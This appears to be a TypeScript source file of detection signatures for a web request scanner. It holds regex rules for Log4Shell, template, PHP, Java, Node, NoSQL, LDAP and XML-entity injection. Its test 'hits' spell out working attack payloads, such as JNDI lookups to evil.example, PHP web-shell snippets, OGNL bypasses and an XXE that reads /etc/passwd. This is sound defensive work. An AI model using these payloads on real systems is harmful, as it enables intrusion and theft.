import { overloadsGraphql } from "#rules/body/graphql-shape.ts";
import { signaturesOf, type SignatureRow } from "./rows.ts";
import { ARGUMENTS, COOKIES, HEADERS, INPUT, PATH, UPLOADS } from "./places.ts";
import type { Signature } from "./signature.ts";

const TEMPLATES: readonly SignatureRow[] = [
  {
    slug: "java-jndi",
    title: "Log4Shell: a lookup in a logged value",
    pattern: String.raw`\$\\?\{[^}]{0,60}(?:jndi ?:|jnd\xc4\xb1 ?:|:-?j(?:n?d?i?)?\})|\$\{(?:jndi|ctx|java|env|sys|main|marker|lower|upper|base64|k8s|docker|spring|bundle|sd|log4j)(?::|%3a)|\$\{(?:script:[a-z]{2,12}:|dns:[a-z0-9]|xpath:/|(?:url|file):utf|const:[a-z]{1,20}\.|(?:xml|properties):[/a-z]|base64decoder:|urldecoder:)|\$\{(?:[a-z0-9_]{0,20}:){2,4}-|\$\{:{1,4}-|\$\{[^}]{0,30}:-[a-z:/]{1,4}\}[^ ]{0,40}\$\{|\$\{[a-z:]{0,12}\$\{`,
    needs: ["${", "$\\{"],
    hits: [
      "${jndi:ldap://evil.example/a}",
      "${${lower:j}ndi:rmi://x}",
      "${${::-j}${::-n}di:x}",
      "${env:AWS_SECRET_ACCESS_KEY}",
      "%24%7Bjndi:dns://x%7D",
      "${j${k8s:k5:-ND}i:ldap://x}",
      "${jn${date:'d'}i:dns://x}",
      "$\\{jndi:rmi://x\\}",
    ],
    misses: ["${obj}", "${PORT:-8080}", "${name}", "costs ${5}", "${user.name}", "a $ {b}"],
  },
  {
    slug: "template-expression",
    title: "Template injection: an evaluated expression",
    pattern: String.raw`(?:\{\{|\$\{|#\{|%\{|<%[=-]?|\{%|\[\[|@\(|\*\{)[=:@#]? ?['"(]{0,2}\d{1,12} ?['"]? ?[*+/-] ?['"]?\d{1,12} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))|\{ ?\d{1,12} ?\* ?\d{1,12} ?\}|\{% ?(?:set [a-z_]{1,20} ?= ?\d|if \d)|\$\{\{<%\[|\{\{ ?\d{1,6} ?[*+] ?['"][a-z0-9]{1,8}['"] ?\}\}`,
    needs: ["{", "<%", "[[", "@("],
    hits: ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(1+2)", "{7*7}", "~{7*7}", "{% set x = 7*7 %}"],
    misses: ["{{name}}", "[[1, 2]]", "${price}", "a{1,3}", "{1-3}"],
  },
  {
    slug: "template-objects",
    title: "Template injection: access to the operating system",
    // With repeated braces, each search extends only to the next one.
    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$[a-z]{1,20}\.)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec)\b|system ?\( ?['"]|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"]child_process|__proto__|constructor ?(?:\.|\[|\( ?['"])|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app|messages\.storages|process\.env|beans ?\}\})|\$\{(?:page|request|session|application)scope|\$\{(?:class|request|response|session|pagecontext|facescontext|applicationcontext)\.(?:get|class|request|session)|<%@ ?(?:page|include|taglib) |@(?:\{ ?(?:int|var|string) |system\.(?:diagnostics|io)\.)|\bsystem\.diagnostics\.process\.|\{\{ ?printf |\$\{\.(?:data_model|globals|main|vars|current_template)|\{\{ ?\[\]\.class\b|\{\{[^{}]{0,80}\[ ?['"][a-z_]{1,20}['"] ?[+~] ?['"]|\{\{[^{}]{0,60}\| ?attr ?\(|\{\{ ?handler\.settings|\| ?(?:filter|map|sort|reduce|find|usort) ?\(? ?\(?['"](?:system|passthru|exec|shell_exec|popen|phpinfo|assert|eval|file_get_contents)['"]|@php\b[^@]{0,80}(?:system|exec|passthru|eval|popen|phpinfo) ?\(|<#(?:assign|list)[^>]{0,60}(?:\.class\b|getclass|protectiondomain|\.data_model)|\$\{(?:header|headervalues|cookie|initparam|paramvalues|facescontext)[.\[]|<%=? ?require ?['"(]|\{\{#with ['"][a-z]{1,10}['"] as ?\||\{\{ ?(?:call )?\.(?:system|exec|command|run|shell) |\{\{[^{}]{0,60}(?:tostring|constructor)(?:\(\))?\.(?:constructor|call|prototype)|\broot\.process\b|\{\{ ?_context ?\||\{\{[^{}]{0,60}\.getclass\(`,
    needs: [
      "__",
      "['",
      '["',
      "attr",
      "handler.",
      "filter",
      "map",
      "sort",
      "reduce",
      "@php",
      "<#",
      "${header",
      "${cookie",
      "${initparam",
      "${paramvalues",
      "${facescontext",
      "#with",
      "{{.",
      "{{ .",
      "{{call",
      "{{ call",
      "tostring",
      "root.process",
      "_context",
      "request",
      "self",
      "config",
      "lipsum",
      "cycler",
      "joiner",
      "getruntime",
      "class.forname",
      "getclass",
      "t(java",
      "freemarker",
      "?new",
      "?api",
      "registerundefined",
      "system",
      "passthru",
      "exec",
      "popen",
      "range.constructor",
      "process.",
      "require",
      "constructor",
      "settings.secret",
      "smarty",
      "php}",
      "lookup string",
      "url_for",
      "get_flashed",
      "dump",
      "messages.",
      "beans",
      "scope",
      "${class",
      "${response",
      "${session",
      "context.",
      "<%@",
      "@{",
      "printf",
      "${.",
      "[].class",
    ],
    hits: [
      "{{config.items()}}",
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")} ${freemarker}',
      '{{_self.env.registerUndefinedFilterCallback("exec")}}',
      "<%= system('id') %>",
      "{{request|attr('application')}}",
      "{{x['a_'+'b']}}",
      "{{['id']|map('passthru')}}",
      '{{ .Exec "id" }}',
      '{{"x".toString().constructor}}',
    ],
    misses: [
      "{{user.name}}",
      "{{ product.title }}",
      "{% if user %}",
      "${item.newest}",
      "{{ items | map(attribute='name') | join(', ') }}",
      "{{ .Title }}",
      "{{#with person as |p|}}",
      "{{ row['name'] }}",
    ],
  },
  {
    slug: "template-probe",
    title: "Template injection: a probe",
    pattern: String.raw`^[^ ]{0,20}\{\{ ?(?:config|self|request|settings|session|app|_self|_context|globals|g|env|this|dump\([a-z_]{0,20}\)|debug|\$on\.constructor|[a-z]{1,10}\.__[a-z]{1,20}|['"][^'"]{0,20}['"] ?\. ?(?:toupper|tolower|upper|lower|join|__)[a-z]{0,8}) ?(?:\(\)|\(\))? ?\}\}|^[^ ]{0,20}\{% ?(?:debug|import (?:os|sys|subprocess)|load log|raw __|print ?\(|with [a-z]{1,10} ?= ?[a-z'"\[]|for [a-z]{1,10} in [(\[]|if [(\['"])[^%]{0,80}%\}|^[^ ]{0,20}\{(?:php|literal|\$smarty\.[a-z]{1,30}|system\(|exec\(|if [a-z_]{2,20}\()|^#(?:set|foreach|include|evaluate) ?\(|^\$\{\{? ?[a-z.]{1,40}\.(?:getclass|class)\b|^[^ ]{0,10}(?:<%[=-]? ?|#\{ ?)(?:\d|['"${"`"}%]|(?:file|dir|io|kernel|process|self|global|root|env|object|open3?|system|exec|eval|spawn|runtime|require|function|t)\b ?(?:\.|\(|\[|%>|\}))|^[^ ]{0,12}(?:\$\{|#\{|\{\{) ?['"][^'"{}]{0,20}['"] ?\. ?(?:to(?:upper|lower)case|upper|lower|join|concat|getclass|class|replace|repeat|length|constructor)\b|^\$\{@[a-z_]{1,20} ?\(|\{\$\{@?[a-z_]{2,20} ?\(|^[^ ]{0,10}\$\{ ?(?:sleep|phpinfo|print|system|eval|passthru|exec|md5|die) ?\(`,
    needs: [
      "{{",
      "{%",
      "{php",
      "{literal",
      "{$smarty",
      "{system",
      "{exec",
      "{if",
      "#set",
      "#foreach",
      "#include",
      "#evaluate",
      "${",
      "<%=",
      "#{",
    ],
    hits: [
      "{{config}}",
      "{{ self }}",
      "{{'a'.toUpperCase()}}",
      "{% debug %}",
      "{php}echo `id`;{/php}",
      "{$smarty.version}",
      "#set($x=1)",
      "<%= File.open('/x') %>",
      "{${sleep(20)}}",
      "${@print(md5(1))}",
    ],
    misses: [
      "{{name}}",
      "Hello {{ user.name }}",
      "{{ config.title }}",
      "{% if user %}x{% endif %}",
      "${name}",
      "<%= name %>",
      "<%= f.label :name %>",
      "#{user.name} joined",
      '{% include "header.html" %}',
    ],
  },
  {
    slug: "template-python",
    title: "Python injection: objects that reach the operating system",
    // Programs of several statements are shown in posts.
    pattern: String.raw`__(?:class|globals|builtins|mro|subclasses|import|getattribute|reduce)__ ?(?:\.|\[|\(|\b)|\b__import__ ?\(|\bos\.(?:system|popen|exec[lv]p?e?) ?\(|\bsubprocess\.(?:popen|call|run|check_output)|\bpickle\.loads|\beval ?\( ?compile ?\(`,
    needs: ["__", "os.", "subprocess.", "pickle.", "compile"],
    unless: tellsOfPython,
    hits: ["''.__class__.__mro__", "__import__('os').system('id')", "os.popen('id')", "subprocess.check_output"],
    misses: ["__init__.py", "os.path", "the subprocess. Call"],
  },
];

const PHP: readonly SignatureRow[] = [
  {
    slug: "php-tag",
    title: "PHP injection: an opening tag",
    pattern: String.raw`<\?(?:php\b|=|[ ](?:eval|system|echo|exec|passthru|include|require|phpinfo|\$_))|<script language ?= ?["']?php|<% ?(?:eval|execute|executeglobal) ?[( ]|<%[ =]?(?:server\.createobject|response\.write ?\(? ?(?:eval|createobject))|<cf(?:execute|query|script|module|object)[ >]|<jsp:(?:scriptlet|usebean|directive)`,
    needs: ["<?", "<script", "<%", "<cf", "<jsp:"],
    hits: ["<?php system($_GET['c']); ?>", "<?=`id`?>", "<?PHP phpinfo()", '<%eval request("x")%>', '<cfexecute name="cmd.exe">'],
    misses: ['<?xml version="1.0"?>', "what <? is", "a <?> b", "<% evaluation %>", "<%= name %>"],
  },
  {
    slug: "php-call",
    title: "PHP injection: a call as a value",
    pattern: String.raw`^[^ ]{0,24}?(?:^|[^a-z0-9_.> ] ?|['"] ?\. ?)@?(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|scandir|glob|phpversion|php_uname|getenv|print_r|var_dump|die) ?\( ?(?:['"${"`"}$@]|base64_|chr ?\(|\) ?(?:;|$|\})|str_|get_|system\(|phpinfo\(|gz|\d{1,6} ?\) ?;)`,
    beginsValue: true,
    unless: isIdiomOfC,
    needs: ["("],
    hits: [";system('id')", "phpinfo()", "eval($_POST[x])", "';phpinfo();//", "print_r(scandir('/'))", "call_user_func('system','id')"],
    misses: ["the system (old)", "call exec('ls') from a script", "re.exec('x')", "eval()uation", "db.exec('x')"],
  },
  {
    slug: "php-code",
    title: "PHP injection: a call that was put together, or behind the end of another",
    pattern: String.raw`^[^ ]{0,24}?(?:^\d{0,6};|['"] ?[.;] ?|\{\$\{@?)@?(?:include|require)(?:_once)? ?\(? ?['"]|^[^ ]{0,24}?(?:^\d{1,6};|['"] ?[.;] ?|\{\$\{@?)@?(?:array_(?:map|filter|walk|reduce)|u[ak]?sort|unlink|chmod|rename|copy|mkdir|parse_ini_file|error_log|mail|dl|posix_[a-z]{3,12}|register_shutdown_function|move_uploaded_file|symlink|curl_exec|fsockopen|extract|parse_str|ob_start|fputs|fwrite|set_error_handler|var_export|get_defined_vars|apache_[a-z_]{3,20}|stream_[a-z_]{3,20}) ?\( ?(?:['"${"`"}$@]|[a-z]{1,12}\))|^;?(?:system|passthru|shell_exec|pcntl_exec)\([a-z]{1,12}\);?$|^[^ ]{0,12}(?:print|die|echo|exit|var_dump|print_r) ?\(? ?(?:md5|phpversion|php_uname|sha1|pi|getcwd|get_current_user) ?\( ?[)\d'"]|\(['"][a-z_]{1,12}['"]\.['"][a-z_]{1,12}['"]\) ?\(|(?:\(|['"]|\[)(?:system|exec|passthru|shell_exec|phpinfo|assert|popen)(?:\)|['"]|\]\[0\])\(|(?:array_map|array_filter|u[ak]?sort|array_walk|iterator_apply|call_user_func(?:_array)?) ?\( ?(?:(?:\[[^\]]{0,40}\]|[$a-z_]{1,20}) ?, ?)?(?:['"](?:system|exec|passthru|shell_exec|assert|eval|phpinfo|popen)['"]|\$_)|\b(?:include|require)(?:_once)? ?\(? ?['"](?:https?:|ftp:|php:|data:|phar:|/etc/|/proc/|/var/log)|\bnew (?:reflectionfunction|splfileobject|simplexmlelement) ?\( ?['"]|invokefunction&function=|[\\/]think[\\/](?:app|request|container|view|template)[^ ]{0,60}/(?:invokefunction|display|cache|get|write)`,
    needs: ["(", "include", "require", "invokefunction", "think"],
    hits: [
      "'.unlink('x').'",
      "1;require('x.php')",
      "system(ls);",
      "die(md5(7))",
      "('pass'.'thru')('id')",
      "(system)('ls')",
      "usort($_POST,'system')",
      "include 'https://evil.example/x'",
      "index/\\think\\app/invokefunction",
    ],
    misses: [
      "require('../lib/x')",
      "const a = require('a')",
      "the mail('x') function",
      "(system) settings",
      "array_map('trim', $x)",
      "print(x)",
      'say "exec" (the board)',
    ],
  },
  {
    slug: "php-functions",
    title: "PHP injection: functions that run code",
    pattern: String.raw`\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|include(?:_once)?|require(?:_once)?|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|move_uploaded_file|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|dl|array_map|array_filter|usort) ?\( ?(?:['"${"`"}$@][a-z0-9_$'"/(-]|base64_|chr ?\(|\)|str_|get_|end ?\(|pos ?\()`,
    needs: ["("],
    hits: [
      "system('id')",
      "eval($_POST[x])",
      "phpinfo()",
      "file_get_contents('/etc/hosts')",
      'base64_decode("aWQ=")',
      "call_user_func('system','id')",
    ],
    misses: ["the system (old)", "exec (a,b)", "require (1)", "include('"],
    certainty: "likely",
  },
  {
    slug: "php-variables",
    title: "PHP injection: predefined variables",
    pattern: String.raw`\$_(?:get|post|request|server|cookie|files|session|env) ?(?:\[|\{|,)|\bglobals ?\[|\bphp_(?:sapi|uname|self)\b|^(?:_(?:get|post|request|server|cookie|files|session|env)|globals)\[`,
    unless: asksAboutPhp,
    needs: ["_get", "_post", "_request", "_server", "_cookie", "_files", "_session", "_env", "globals", "php_"],
    hits: ["$_GET['x']", "$_REQUEST{x}", "GLOBALS[x]", "_SERVER[DOCUMENT_ROOT]"],
    misses: ["costs $_5", "global s", "my_get[x]"],
  },
  {
    slug: "php-object",
    title: "PHP injection: a serialised object",
    pattern: String.raw`(?:^ ?|[;{:=&|])[oc]:\+?\d{1,4}:"[a-z0-9_\\]{1,80}":\+?\d{1,4}:\{|^ ?e:\d{1,3}:"[a-z_\\]{1,60}:[a-z_]{1,40}";`,
    needs: ['":', '";'],
    hits: ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'a:1:{i:0;O:4:"Evil":0:{}}'],
    misses: ['{"o":8,"a":"b"}', 'time: "12:30":'],
  },
  {
    slug: "php-settings",
    title: "PHP injection: interpreter settings",
    pattern: String.raw`(?:allow_url_include|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode|suhosin\.simulation) ?=|-d ?(?:allow_url_include|auto_prepend_file)|\bcgi\.force_redirect`,
    targets: INPUT | PATH,
    hits: ["-d allow_url_include=on -d auto_prepend_file=php://input", "allow_url_include=1"],
    misses: ["safe mode = on", "open based dir"],
  },
];

const JAVA: readonly SignatureRow[] = [
  {
    slug: "java-runtime",
    title: "Java injection: classes that run code",
    pattern: String.raw`(?:java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect|autocloseable)|getruntime ?\( ?\)|processbuilder ?\(|javax\.(?:script|naming|el)\.|org\.apache\.(?:commons\.(?:collections|fileupload|jelly|beanutils|configuration|dbcp)|xalan|log4j|struts)|com\.sun\.(?:rowset|org|jndi|naming)|sun\.(?:misc|reflect)\.|groovy\.lang|org\.springframework\.(?:context|beans|expression|cglib|jndi|aop|util\.(?:streamutils|methodinvoker))|com\.opensymphony\.|org\.codehaus\.groovy\.|com\.mchange\.|ysoserial\.|javax\.management\.|org\.mozilla\.javascript\.|org\.jboss\.(?:interceptor|weld)|com\.zaxxer\.hikari\.hikariconfig|jdk\.jshell|groovyshell ?\(|@grab(?:config|resolver)? ?\(|["']\.execute\(\)|\.execute\(\)\.(?:text|waitfor|getinputstream)|jdbc:(?:h2|hsqldb|derby):[^ ]{0,200}(?:init ?=|alias|runscript)|;init ?= ?(?:runscript|create alias)|jdbc:mysql:[^ ]{0,200}(?:autodeserialize|queryinterceptors|statementinterceptors|allowloadlocalinfile)|socketfactoryarg ?=|protectiondomain\.(?:codesource|classloader)|\.class\.(?:classloader|protectiondomain|forname)|^[^ ]{0,12}\bsystem\.[gs]etproperty ?\( ?["\']|ognl\.ognlcontext|freemarker\.template\.utility|bsh\.interpreter|classloader\.(?:url|resources|parent|defaultassertionstatus)|class[\]\[.'"]{1,4}module[\]\[.'"]{1,4}classloader|java\.net\.(?:inet[46]address|inetsocketaddress|urlclassloader)|javax\.swing\.jeditorpane|jdk\.nashorn\.|javax\.imageio\.|java\.beans\.(?:eventhandler|xmldecoder)|groovy\.util\.expando|ch\.qos\.logback\.core\.db)`,
    unless: isStackTrace,
    hits: [
      "java.lang.Runtime.getRuntime().exec('id')",
      "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
      "new javax.script.ScriptEngineManager()",
      "org.apache.commons.collections.functors",
    ],
    misses: ["java language", "the processbuilders", "run time ()"],
  },
  {
    slug: "java-ognl",
    title: "Java injection: expressions of OGNL and SpEL",
    pattern: String.raw`(?:%\{|\$\{|\(|^)[ (]{0,4}#(?:_memberaccess|context|cmd|p|dm|container|ognlutil|iswin|cmds|process|ros|req|res|attr|application|session|parameters|rt|root)(?:\[|\.|=| =|\})|%\{ ?\(? ?#[a-z_]{1,30} ?=|[%$#]\{ ?['"][^'"{}]{0,20}['"] ?\. ?(?:class|getclass)\b|\bognlutil\b|^debug=(?:command|browser|xml|console)&|^expression=#|@(?:ognl\.ognlcontext|java\.lang|org\.apache)|_memberaccess|xwork\.methodaccessor|#\{t ?\(|\bt\(java\.`,
    needs: ["#", "@", "_memberaccess", "xwork", "t(", "class", "ognlutil", "debug="],
    hits: [
      "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
      "${(#cmd='id')}",
      "redirect:${#context['x']}",
      "T(java.lang.Runtime)",
    ],
    misses: ["#1 in context", "issue (#5)", "@orgs"],
  },
  {
    slug: "java-serialized",
    title: "Java injection: a serialised object",
    pattern: String.raw`^ ?(?:[a-z_]{1,20}=)?(?:ro0ab[a-z0-9+/]|h4siaaaaaaaa|\xac\xed\x00?\x05|aced0005|tzo[w-z0-5](?:oij|[mno][a-z0-9]oi)|ytox?[a-z0-9+/]{2,60}(?:tzo[w-z0-5]o|o086[mno])|gasv[a-z0-9+/_-]{12}|ga[jn][9jdo][a-z0-9+/_-]{16}|y29zcnn5c3rlb|y3bvc2l4cn|bah[vbcu][a-z0-9+/_-]{2}[a-z0-9+/_-]{20})|aaeaaad[/_]{5}|abaaaa/////we|aqaaap////8b`,
    needs: [
      "ro0ab",
      "h4siaaaa",
      "\xac\xed",
      "aced0005",
      "tzo",
      "o086",
      "gasv",
      "gaj",
      "gan",
      "y29zcnn5",
      "y3bvc2l4",
      "bah",
      "aaeaaad",
      "abaaaa/",
      "aqaaap/",
    ],
    targets: INPUT | HEADERS,
    hits: ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced00057372"],
    misses: ["ro0t", "placed0005"],
  },
];

const NODE: readonly SignatureRow[] = [
  {
    slug: "node-injection",
    title: "JavaScript injection on the server",
    pattern: String.raw`\b(?:require ?\( ?['"${"`"}](?:node:)?child_process['"${"`"}] ?\) ?\. ?(?:exec|spawn|fork)|require ?\( ?['"${"`"}](?:node:)?(?:fs|net|http|os|vm)['"${"`"}] ?\) ?\. ?(?:readfile|readdir|writefile|createread|exists|unlink|connect|get|runin|networkinter|hostname)|child_process['"${"`"}]? ?\)? ?\.|process\.(?:mainmodule|binding\b|dlopen|kill ?\()|global(?:this)?(?:\.|\[["'${"`"}])process|globalthis ?\. ?constructor|execsync ?\(|spawnsync ?\(|import ?\( ?['"${"`"}](?:node:)?(?:child_process|fs)|_\$\$nd_[a-z]{2,6}\$\$_|this ?\. ?constructor ?\. ?constructor|constructor ?\( ?['"${"`"}]return (?:process|this|global)|function ?\( ?['"${"`"}]return process)`,
    needs: ["require", "child_process", "process", "global", "execsync", "spawnsync", "import", "nd_func", "constructor"],
    hits: [
      "require('child_process').exec('id')",
      "process.mainModule.require('fs')",
      '{"rce":"_$$ND_FUNC$$_function(){}"}',
      "this.constructor.constructor('return process')()",
      "Function('return process')()",
    ],
    misses: [
      "requires (fs)",
      "the process. Exit",
      "import (goods)",
      "process.environment",
      "const fs = require('fs')",
      "process.env.HOME",
      "app.listen(process.env.PORT)",
    ],
  },
  {
    slug: "node-prototype",
    title: "Prototype pollution",
    pattern: String.raw`(?:^|[\[.{"' /#;?&])__proto__(?:$|[\].:"' =\[/])|constructor(?:\]?\[|[./]|['"] ?: ?\{ ?['"])prototype|__(?:lookup|define)[gs]etter__|__pro__proto__to__|protoprototypetype|(?:^|[\[."'])object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]? ?=|object\.(?:assign|defineproperty|defineproperties)\( ?object\.prototype|^object\.setprototypeof ?\(|^object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]?$`,
    needs: ["__proto__", "proto", "etter__", "__pro__"],
    hits: ["__proto__[admin]", "a[__proto__][b]", "constructor.prototype.x", "constructor[prototype][x]"],
    misses: ["a prototype", "the constructor's prototype", "my__proto__x"],
  },
];

const DATA: readonly SignatureRow[] = [
  {
    slug: "nosql-operators",
    title: "NoSQL injection: operators in argument names",
    pattern: String.raw`(?:^|\[|\.)\$(?:ne|eq|gt|gte|lt|lte|in|nin|not|or|and|nor|regex|where|exists|type|expr|jsonschema|mod|all|elemmatch|size|function|lookup|merge|out|rename|comment)(?:\]?$|\]?\[|\.)`,
    needs: ["$"],
    unless: isFilterName,
    hits: ["user[$ne]", "$where", "a[$regex]", "$or"],
    misses: ["$100", "us$ not", "price[$]"],
  },
  {
    slug: "nosql-script",
    title: "NoSQL injection: scripts in queries",
    pattern: String.raw`(?:^\[?\{ ?"\$(?:eq|ne|gte?|lte?|nin?|in|not|nor|and|or|all|size|type|mod|expr|elemmatch|jsonschema|text|set|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator|group)" ?:|^\[?\{ ?"[a-z_]{1,20}" ?: ?(?:\{ ?|[^{}]{1,12}\}, ?\{ ?)"\$(?:nin|not|nor|all|size|type|mod|expr|elemmatch|jsonschema|text|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator)" ?:|\[\$(?:ne|eq|gte?|lte?|nin|in|regex|exists|where|not|nor)\](?:\[[^\]]{0,20}\]){0,2} ?=|(?:^\d{1,6}|['"]) ?; ?return (?:true|1|this|''|"")|['"] ?(?:\|\||&&) ?(?:typeof |new date|object\.keys|this\b|tojson|obj\b|db\b)|\btojson(?:oneline)? ?\( ?db\.|\bdb\.(?:getcollection(?:names|infos)?|getsiblingdb|getusers|dropdatabase|runcommand|admincommand|getmongo|shutdownserver|copydatabase)\(|\beval ["'](?:return |os\.|local |redis\.)|\bredis\.p?call ?\(|(?:['"}\])]|^-?\d{1,9}) ?(?:match ?\([a-z:]{0,20}\) ?(?:detach|return|delete|set)|detach delete )|\b(?:union|return [a-z0-9_.]{1,20}(?: union)?|with [a-z0-9_ ]{1,20}) call (?:db|dbms|apoc)\.|['"{,;] ?['"]?\$(?:where|ne|nin|regex|exists|or|function|comment)['"]? ?:|\$[gl]te?['"]? ?: ?(?:['"]|null|undefined|\{)|^\[\$(?:ne|gte?|lte?|nin|regex|exists|where)\]|^function ?\( ?\) ?\{ ?return |['"] ?\}?\)? ?(?:or [^ ]{1,12} )?(?:detach delete |union match ?\(|match ?\([a-z:]{0,20}\) ?(?:detach|return)|return [a-z] ?(?:union|//)|call dbm?s?\.)|load csv from|['"]\}?\)?//$|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|delete|replace|bulkwrite|createindex|rename|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|(?:^\d{1,6}|['"]) ?; ?(?:while ?\(|for ?\(;;)|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do ?\{ ?[a-z]{1,12} ?= ?new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`,
    needs: [
      "$",
      "this.",
      "db.",
      "||",
      "&&",
      "return",
      "while",
      "sleep",
      "var",
      "throw",
      "it=",
      "new date",
      "function",
      "match",
      "delete ",
      "call db",
      "load csv",
      "//",
      "tojson",
      "eval ",
      "redis.",
      " call ",
    ],
    unless: asksDatabase,
    hits: [
      "', $where: '1 == 1",
      "';return this.password.match(/a/)//",
      "db.users.find()",
      "' || 'a'=='a",
      '{"$inc":{"credit":5}}',
      '{"$gte":0}',
      "login[$ne]=x",
      "0; return true",
      "1 match (n) detach delete n",
    ],
    misses: [
      "this. That",
      "db. users",
      "a && b == c",
      '{"where":{"age":{"$gte":21}}}',
      "db.orders.find({ status: 1 }).limit(5)",
      "match (n) return n",
      "filters[title][$contains]=x",
    ],
  },
  {
    slug: "ldap-filter",
    title: "LDAP injection: a filter",
    pattern: String.raw`^[^ ]{0,20}\*\(\)\|[%&]|\)\((?:\||&|!|[a-z0-9-]{1,30}[~<>]?=)|\(\|\([a-z0-9-]{1,30}=|\*\)\(|\(&\([a-z]|\*\)\)(?:\x00|\(|$)|\*\(\||\)\)\(\||^[^()]{0,40}\)\(?[|&!]\(|\(objectclass=|\*\)[(&|]{1,2}[a-z(]|\* ?\) ?\( ?[a-z0-9-]{1,30} ?[~<>:]?=|(?:\*|\\2a)(?:\)|\\29)(?:\(|\\28)|^\(!\([a-z]|^\((?:cn|uid|mail|sn|samaccountname|memberof|userprincipalname|useraccountcontrol)(?::[0-9.]{1,40}:)?=[^()]{1,80}\)$`,
    needs: [
      ")(",
      "()|",
      "(|",
      "(&",
      "*)",
      ")|",
      ")&",
      ")!",
      "(objectclass",
      "\\2",
      ") (",
      "(cn=",
      "(uid=",
      "(mail=",
      "(sn=",
      "(sama",
      "(member",
      "(user",
    ],
    unless: quotesFilter,
    hits: ["*)(uid=*))(|(uid=*", "admin)(&(password=*)", "(|(cn=*)"],
    misses: ["f(x)(y)", "(a) (b)", "smile :)("],
  },
  {
    slug: "xml-entity",
    title: "XML: external entities and documents",
    pattern: String.raw`<!(?:entity|doctype)[ \[][^>]{0,200}(?:system|public|\[|%|entity)|<!entity|<\?xml-stylesheet|<xi:include|xmlns:xi ?=|<xsl:`,
    unless: isPublicType,
    needs: ["<!entity", "<!doctype", "xml-stylesheet", "xi:include", "xmlns:xi", "<xsl:"],
    hits: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!ENTITY % p SYSTEM "http://x">', '<xi:include href="x"/>'],
    misses: [
      "<!doctype html>",
      "<a>b</a>",
      "an entity",
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    ],
  },
  {
    slug: "xml-entity-file",
    title: "XML: external entities in an uploaded file",
    pattern: String.raw`<!(?:entity|notation) [^<>]{1,100}(?:system|public) ?["']|<!doctype [^<>\[]{1,60} (?:system ?["']|public ?["'][^"']{0,60}["'] ?["'])(?:https?://|file:|ftp:|php:|expect:|jar:|netdoc:|gopher:|/|\\)|<!entity [a-z0-9_]{1,20} ?["'](?:&[a-z0-9_]{1,20};){2}|xmlns:php ?=|php:function|document ?\( ?["'](?:/|file:|http)|<xi:include`,
    targets: UPLOADS,
    unless: isPublicType,
    needs: ["<!entity", "<!notation", "<!doctype", "xmlns:php", "php:function", "document", "<xi:include"],
    hits: [
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      '<!ENTITY lol2 "&lol;&lol;&lol;">',
      '<!DOCTYPE r SYSTEM "netdoc:///x">',
    ],
    misses: [
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
      '<!DOCTYPE nitf SYSTEM "nitf-3-3.dtd">',
      '<!ENTITY ns_svg "http://www.w3.org/2000/svg">',
    ],
  },
  {
    slug: "xpath-union",
    title: "XPath injection: an added path",
